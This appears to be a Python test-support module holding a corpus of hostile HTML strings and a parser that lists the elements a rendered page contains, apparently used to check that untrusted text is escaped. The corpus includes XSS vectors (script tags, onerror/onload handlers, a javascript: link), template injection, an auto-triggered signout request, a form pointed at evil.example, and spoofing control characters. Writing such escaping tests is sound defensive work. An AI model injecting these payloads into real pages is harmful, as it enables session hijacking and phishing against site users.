"""Texts that would do harm on a page that took them for more than text."""

from html.parser import HTMLParser

HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "'><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "</pre></td></table><style>*{display:none}</style>",
    "<a href=javascript:window.pwned=1>look</a>",
    "{{ 7*7 }}{% raw %}",
    "<button hx-get=/signout hx-trigger=load>x</button>",
    "</script><!-- --><math><mtext></form><form action=//evil.example>",
    "\u202egnp.exe\u202c \x1b[2J \x07 \ud83d",
)
"""A corpus of markup, script, template and steering; each one tries to leave where it stands."""


def elements(page: str) -> set[tuple[str, tuple[str, ...]]]:
    """Return which elements a page has, each with the names of its attributes."""
    parser = _Elements()
    parser.feed(page)
    return parser.found


class _Elements(HTMLParser):
    """Collects elements."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, tuple[str, ...]]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.found.add((tag, tuple(sorted(name for name, _ in attrs))))
